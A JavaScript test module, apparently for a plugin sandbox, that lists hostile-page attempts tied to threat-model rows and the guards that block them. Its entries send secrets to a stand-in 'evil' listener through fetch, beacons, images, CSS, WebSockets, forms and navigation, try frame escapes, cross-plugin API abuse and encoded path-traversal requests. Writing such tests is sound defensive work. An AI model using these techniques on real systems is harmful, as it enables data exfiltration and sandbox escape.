// What a hostile page tries, one entry each: `threat` is the row of the threat model, `guard` what stands in the way.
//
// `run` does it, with `evil`, the address of the attempt at the listener. Some attempts are there to reach that address;
// the others return what they got hold of, which the runner then sends there itself. `alone` needs a page for itself,
// because there may be none left afterwards.

const wait = (ms) => new Promise((resume) => setTimeout(resume, ms));

/** Adds an element to the page and waits for whatever it does. */
async function add(name, properties, parent = document.body) {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(properties)) {
    if (key in element && key !== "href" && key !== "ping") element[key] = value;
    else element.setAttribute(key, value);
  }
  parent.append(element);
  await wait(150);
  return element;
}
const style = (text) => add("style", { textContent: text });
const text = async (url, options) => {
  const response = await fetch(url, options);
  return response.ok && (await response.text());
};
const json = (method, body = {}) => ({ method, headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });
/** A page of its own that runs `script`. */
const page = (script) => `<script>${script}</script>`;
const call = (evil) => `fetch(${JSON.stringify(evil)}, { mode: "no-cors" })`;
const host = () => new URLSearchParams(location.search).get("hostOrigin") || location.origin;

const attempts = {
  // T11: something leaves for where the manifest does not say.
  "fetch": { threat: "T11", guard: "connect-src", run: ({ evil }) => fetch(evil) },
  "fetch-no-cors": { threat: "T11", guard: "connect-src", run: ({ evil }) => fetch(evil, { mode: "no-cors", method: "POST", body: "secret" }) },
  "fetch-keepalive": { threat: "T11", guard: "connect-src", run: ({ evil }) => fetch(evil, { mode: "no-cors", keepalive: true }) },
  "xhr": {
    threat: "T11", guard: "connect-src",
    run: ({ evil }) => {
      const request = new XMLHttpRequest();
      request.open("GET", evil);
      request.send();
    },
  },
  "beacon": { threat: "T11", guard: "connect-src", run: ({ evil }) => void navigator.sendBeacon(evil, "secret") },
  "event-source": { threat: "T11", guard: "connect-src", run: ({ evil }) => void new EventSource(evil) },
  "web-socket": { threat: "T11", guard: "connect-src", run: ({ evil }) => void new WebSocket(evil.replace(/^http/, "ws")) },
  "image": { threat: "T11", guard: "img-src", run: ({ evil }) => add("img", { src: evil }) },
  "image-set": { threat: "T11", guard: "img-src", run: ({ evil }) => add("img", { srcset: `${evil} 1x` }) },
  "svg-image": {
    threat: "T11", guard: "img-src",
    run: ({ evil }) => add("div", { innerHTML: `<svg><image href="${evil}" width="9" height="9"/></svg>` }),
  },
  "css-background": { threat: "T11", guard: "img-src", run: ({ evil }) => style(`body { background: url("${evil}") }`) },
  "css-import": { threat: "T11", guard: "style-src", run: ({ evil }) => style(`@import "${evil}";`) },
  "css-font": {
    threat: "T11", guard: "font-src",
    run: async ({ evil }) => {
      await style(`@font-face { font-family: stolen; src: url("${evil}") }`);
      await add("p", { textContent: "text", style: "font-family: stolen" });
    },
  },
  "stylesheet": { threat: "T11", guard: "style-src", run: ({ evil }) => add("link", { rel: "stylesheet", href: evil }) },
  "script": { threat: "T11", guard: "script-src", run: ({ evil }) => add("script", { src: evil }) },
  "import": { threat: "T11", guard: "script-src", run: ({ evil }) => import(evil) },
  "module-preload": { threat: "T11", guard: "script-src", run: ({ evil }) => add("link", { rel: "modulepreload", href: evil }) },
  "preload": { threat: "T11", guard: "img-src", run: ({ evil }) => add("link", { rel: "preload", as: "image", href: evil }) },
  "prefetch": { threat: "T11", guard: "default-src", run: ({ evil }) => add("link", { rel: "prefetch", href: evil }) },
  "icon": { threat: "T11", guard: "img-src", run: ({ evil }) => add("video", { poster: evil }) },
  "video": { threat: "T11", guard: "media-src", run: ({ evil }) => add("video", { src: evil, preload: "auto" }) },
  "audio": { threat: "T11", guard: "media-src", run: ({ evil }) => void new Audio(evil).load() },
  "text-track": {
    threat: "T11", guard: "media-src",
    run: ({ evil }) => add("video", { crossOrigin: "anonymous", innerHTML: `<track default kind="subtitles" src="${evil}">` }).then((video) => void (video.textTracks[0].mode = "showing")),
  },
  "frame": { threat: "T11", guard: "frame-src", run: ({ evil }) => add("iframe", { src: evil }) },
  "object": { threat: "T11", guard: "object-src", run: ({ evil }) => add("object", { data: evil, type: "text/html" }) },
  "embed": { threat: "T11", guard: "object-src", run: ({ evil }) => add("embed", { src: evil, type: "text/html" }) },
  "form": {
    threat: "T11", guard: "form-action",
    run: async ({ evil }) => {
      await add("iframe", { name: "sink" });
      (await add("form", { action: evil, target: "sink" })).submit();
    },
  },
  "data-frame": { threat: "T11", guard: "frame-src", run: ({ evil }) => add("iframe", { src: `data:text/html,${encodeURIComponent(page(call(evil)))}` }) },
  "blob-frame": {
    threat: "T11", guard: "frame-src",
    run: ({ evil }) => add("iframe", { src: URL.createObjectURL(new Blob([page(call(evil))], { type: "text/html" })) }),
  },
  "written-frame": { threat: "T11", guard: "connect-src", run: ({ evil }) => add("iframe", { srcdoc: page(call(evil)) }) },
  "worker": { threat: "T11", guard: "worker-src", run: ({ evil }) => void new Worker(URL.createObjectURL(new Blob([call(evil)]))) },
  "shared-worker": { threat: "T11", guard: "worker-src", run: ({ evil }) => void new SharedWorker(URL.createObjectURL(new Blob([call(evil)]))) },
  "ping": {
    threat: "T11", guard: "connect-src",
    run: async ({ evil }) => (await add("a", { href: "#here", ping: evil, textContent: "link" })).click(),
  },
  "base": {
    threat: "T11", guard: "base-uri",
    run: async ({ evil }) => {
      const base = await add("base", { href: `${evil}/` }, document.head);
      await add("img", { src: "x.png" });
      base.remove();
    },
  },
  "web-rtc": {
    threat: "T11", guard: "connection-allowlist",
    run: async ({ stun }) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
      connection.createDataChannel("secret");
      await connection.setLocalDescription(await connection.createOffer());
      await wait(700);
      connection.close();
    },
  },
  "leave": { threat: "T11", guard: "frame-src of the host", alone: true, run: ({ evil }) => location.assign(`${evil}?secret=${encodeURIComponent(location.href)}`) },
  "leave-by-meta": { threat: "T11", guard: "frame-src of the host", alone: true, run: ({ evil }) => add("meta", { httpEquiv: "refresh", content: `0;url=${evil}` }, document.head) },
  "leave-by-form": { threat: "T11", guard: "form-action", alone: true, run: async ({ evil }) => (await add("form", { action: evil, method: "post" })).submit() },
  "leave-by-link": { threat: "T11", guard: "frame-src of the host", alone: true, run: async ({ evil }) => (await add("a", { href: evil })).click() },

  // T7 and T9: what belongs to the host's own chrome.
  "popup": { threat: "T7", guard: "sandbox", run: ({ evil }) => void window.open(evil) },
  "new-tab": { threat: "T7", guard: "sandbox", run: async ({ evil }) => (await add("a", { href: evil, target: "_blank" })).click() },
  "frame-the-host": {
    threat: "T9", guard: "frame-ancestors",
    run: async () => {
      const frame = await add("iframe", { src: `${host()}/backend/api/plugins` });
      await wait(300);
      return frame.contentDocument?.body?.textContent;
    },
  },

  // T10: out of its frame.
  "host-document": { threat: "T10", guard: "sandbox", run: () => parent !== window && parent.document.title },
  "host-storage": { threat: "T10", guard: "sandbox", run: () => parent !== window && parent.localStorage.getItem("secret") },
  "host-address": { threat: "T10", guard: "sandbox", run: () => parent !== window && parent.location.href },
  "host-script": { threat: "T10", guard: "sandbox", run: () => parent !== window && parent.eval("'run in the host'") },
  "host-frame": { threat: "T10", guard: "sandbox", run: () => window.frameElement?.outerHTML },
  "lead-the-host-away": { threat: "T10", guard: "sandbox", alone: true, run: ({ evil }) => void (top.location = evil) },
  "form-over-the-host": { threat: "T10", guard: "sandbox", alone: true, run: async ({ evil }) => (await add("form", { action: evil, target: "_top" })).submit() },
  "eval": { threat: "T10", guard: "script-src", run: () => eval("'evaluated'") },
  "function": { threat: "T10", guard: "script-src", run: () => new Function("return 'evaluated'")() },
  "web-assembly": {
    threat: "T10", guard: "script-src",
    run: async () => (await WebAssembly.instantiate(new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]))) && "compiled",
  },
  "service-worker": {
    threat: "T10", guard: "worker-src",
    run: async () => (await navigator.serviceWorker.register("worker.js")) && "it stays when the page is closed",
  },

  // T12: another plugin, or the host itself, in the user's name.
  "settings-of-another": { threat: "T12", guard: "gateway", run: () => text("/backend/api/plugins/hostile.victim/settings") },
  "settings-of-another-encoded": { threat: "T12", guard: "gateway", run: () => text("/backend/api/plugins/hostile%2Evictim/settings") },
  "settings-of-another-at-the-host": { threat: "T12", guard: "connect-src", run: () => text(`${host()}/backend/api/plugins/hostile.victim/settings`) },
  "overwrite-another": { threat: "T12", guard: "gateway", run: () => text("/backend/api/plugins/hostile.victim/settings", json("PUT", { settings: { secret: "overwritten" } })) },
  "act-as-another": { threat: "T12", guard: "gateway", run: () => text("/backend/api/plugins/hostile.victim/state") },
  "inventory": { threat: "T12", guard: "gateway", run: () => text("/backend/api/plugins") },
  "own-log": { threat: "T12", guard: "gateway", run: () => text("/backend/api/plugins/hostile.page/logs") },
  "disable-another": { threat: "T12", guard: "gateway", run: () => text("/backend/api/plugins/hostile.victim/disable", json("POST")) },
  "open-a-page-of-another": {
    threat: "T12", guard: "gateway",
    run: () => text("/isolated/pages", json("POST", { pluginId: "hostile.victim", extensionId: "x", path: "ui/page.html", locale: "en" })),
  },

  // T15: more than its share.
  "many-calls": {
    threat: "T15", guard: "token bucket",
    run: async ({ own }) => {
      const answers = await Promise.all(Array.from({ length: 200 }, () => fetch(own).then(({ ok }) => ok, () => false)));
      const answered = answers.filter(Boolean).length;
      return answered > 150 && `${answered} of 200 calls at once`;
    },
  },
  "large-body": {
    threat: "T15", guard: "256 KiB",
    run: ({ own }) => text(own, json("PUT", { settings: { large: "x".repeat(300 * 1024) } })),
  },

  // T18: files that are not its own, or not declared.
  "undeclared-file": { threat: "T18", guard: "assets of the manifest", run: () => text("/secret.txt") },
  "manifest": { threat: "T18", guard: "assets of the manifest", run: () => text("/plugin.json") },
  "climb": { threat: "T18", guard: "path policy", run: () => text("/ui/%2e%2e%2fsecret.txt") },
  "climb-out": { threat: "T18", guard: "path policy", run: () => text("/ui/%2e%2e%2f%2e%2e%2foutside.txt") },
  "climb-twice-encoded": { threat: "T18", guard: "path policy", run: () => text("/ui/%252e%252e%252fsecret.txt") },
  "climb-by-backslash": { threat: "T18", guard: "path policy", run: () => text("/ui/..%5csecret.txt") },
  "climb-through-assets": { threat: "T18", guard: "path policy", run: () => text("/backend/api/plugins/hostile.page/assets/ui/%2e%2e%2fsecret.txt") },

  // T19: one thing as another.
  "text-as-script": {
    threat: "T19", guard: "nosniff",
    run: async () => {
      await add("script", { src: "/ui/notes.txt" });
      await wait(200);
      return window.sniffed;
    },
  },
  "unknown-as-document": { threat: "T19", guard: "frame-src", run: async () => (await add("iframe", { src: "/ui/notes.bin" })).contentDocument?.body?.innerHTML },

  // T21: what others left behind.
  "local-storage": { threat: "T21", guard: "opaque origin", run: () => localStorage.getItem("secret") },
  "cookie": { threat: "T21", guard: "opaque origin", run: () => document.cookie },
  "indexed-db": { threat: "T21", guard: "opaque origin", run: async () => (await indexedDB.databases()).map(({ name }) => name).join() },
  "cache": { threat: "T21", guard: "opaque origin", run: async () => (await caches.keys()).join() },
  "broadcast": {
    threat: "T21", guard: "opaque origin",
    run: () => new Promise((heard) => {
      const channel = new BroadcastChannel("host");
      channel.onmessage = ({ data }) => heard(data);
      channel.postMessage("who is there?");
      setTimeout(heard, 500);
    }),
  },

  // T22: what the host lets slip.
  "referrer": { threat: "T22", guard: "referrer policy", run: () => document.referrer },
};

export default Object.entries(attempts).map(([id, attempt]) => ({ id, ...attempt }));
